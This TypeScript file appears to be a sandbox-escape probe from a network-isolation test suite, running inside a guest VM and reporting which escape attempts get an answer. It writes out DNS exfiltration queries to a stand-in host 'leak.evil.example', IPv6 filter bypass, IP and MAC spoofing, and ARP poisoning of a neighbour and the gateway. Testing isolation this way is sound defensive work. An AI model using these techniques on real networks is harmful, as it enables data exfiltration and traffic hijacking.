/**
 * Runs in a guest with every right there is in it, and tries to get out: prints, as JSON, what answered. Its argument says where
 * everything is. Nothing here is imported from the project: the guest has it as text.
 */
import { spawnSync } from "node:child_process";
import { createSocket } from "node:dgram";
import { readFileSync } from "node:fs";
import { get } from "node:http";

interface Plan {
  readonly allowed: string;
  readonly closed: readonly string[];
  readonly pings: readonly string[];
  readonly neighbour: string;
  readonly nameServers: readonly string[];
  readonly gateway: string;
}

const plan: Plan = JSON.parse(process.argv[1] ?? "{}");
const reached: string[] = [];
const tried: string[] = [];

function note(name: string, answered: boolean): void {
  tried.push(name);
  if (answered) reached.push(name);
}

/** A tool of the guest; whether it succeeded. */
function run(...command: readonly string[]): boolean {
  const [program = "", ...args] = command;
  return spawnSync(program, args, { stdio: "ignore", timeout: 20_000 }).status === 0;
}

function fetched(place: string, timeoutMs: number, localAddress?: string): Promise<boolean> {
  return new Promise((resolve) => {
    const request = get(`http://${place}/`, { timeout: timeoutMs, localAddress, agent: false }, (response) => {
      response.resume();
      resolve(true);
    });
    request.on("timeout", () => request.destroy());
    request.on("error", () => resolve(false));
    request.on("close", () => resolve(false));
  });
}

/** A question for an address, as it is on the wire. */
function question(name: string, type = 1): Buffer {
  const labels = name.split(".").map((label) => Buffer.concat([Buffer.of(label.length), Buffer.from(label)]));
  const head = Buffer.of(0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0);
  return Buffer.concat([head, ...labels, Buffer.of(0, 0, type, 0, 1)]);
}

/** All of them from one port, one after the other; whether anything came back is the listener's to say. */
async function send(at: string, port: number, ...messages: readonly Buffer[]): Promise<void> {
  const socket = createSocket("udp4");
  socket.on("error", () => {});
  for (const message of messages) {
    await new Promise<void>((resolve) => socket.send(message, port, at, () => resolve()));
    await new Promise((resolve) => setTimeout(resolve, 300));
  }
  socket.close();
}

const { allowed, neighbour, gateway } = plan;
note("allowed at first", await fetched(allowed, 20_000));
for (const place of plan.closed) note(place, await fetched(place, 3_000));
for (const address of plan.pings) note(`ping ${address}`, run("ping", "-c", "1", "-W", "1", address));

// Names: somebody else's, by every server there is; other types; two in one; behind an allowed one, in one flow and in one packet.
const ok = question("localhost");
for (const server of plan.nameServers)
  await send(server, 53, question("leak.evil.example"), question("leak.localhost"));
await send(gateway, 53, ok, question("leak.evil.example"), question("localhost", 16));
const two = question("localhost");
two[5] = 2;
await send(gateway, 53, Buffer.concat([two, question("leak.evil.example").subarray(12)]));
await send(gateway, 53, Buffer.concat([ok, Buffer.from("leak".repeat(64))]));
note("names over TCP", await fetched(`${gateway}:53`, 3_000));

// IPv6, whatever the guest gives itself.
run("sh", "-c", "echo 0 >/proc/sys/net/ipv6/conf/eth0/disable_ipv6");
run("ip", "-6", "addr", "add", "2001:db8::66/64", "dev", "eth0");
run("ip", "-6", "route", "add", "default", "dev", "eth0");
for (const address of ["fe80::62:6aff:fe00:1%eth0", "fe80::62:6aff:fe00:2%eth0", "2001:db8::1"]) {
  note(`ping ${address}`, run("ping", "-6", "-c", "1", "-W", "1", address));
}

// Somebody else's address, and its own for somebody else.
run("ip", "addr", "add", `${neighbour}/32`, "dev", "eth0");
note("forged address", await fetched(allowed, 3_000, neighbour));
note("forged ping", run("ping", "-c", "1", "-W", "1", "-I", neighbour, allowed.replace(/:.*/, "")));
run("arping", "-q", "-U", "-c", "2", "-w", "2", "-I", "eth0", neighbour);
run("ip", "addr", "del", `${neighbour}/32`, "dev", "eth0");
note("arp", run("arping", "-q", "-f", "-c", "2", "-w", "2", "-I", "eth0", neighbour));
run("ip", "addr", "add", `${gateway}/32`, "dev", "eth0");
run("arping", "-q", "-U", "-c", "2", "-w", "2", "-I", "eth0", gateway);
run("ip", "addr", "del", `${gateway}/32`, "dev", "eth0");
// Straight at the neighbour, past the gateway.
run("ip", "route", "add", `${neighbour}/32`, "dev", "eth0");
note("direct", await fetched(neighbour, 3_000));
run("ip", "route", "del", `${neighbour}/32`, "dev", "eth0");
// Somebody else's hardware address.
const mac = readFileSync("/sys/class/net/eth0/address", "utf8").trim();
run("ip", "link", "set", "eth0", "address", "02:66:66:66:66:66");
note("forged hardware address", await fetched(allowed, 3_000));
run("ip", "link", "set", "eth0", "address", mac);
// What it has done to itself.
run("ip", "neigh", "flush", "dev", "eth0");
run("ip", "route", "replace", `${gateway}/32`, "dev", "eth0");
run("ip", "route", "replace", "default", "via", gateway, "dev", "eth0");
note("allowed at last", await fetched(allowed, 20_000));
process.stdout.write(`${JSON.stringify({ tried, reached })}\n`);
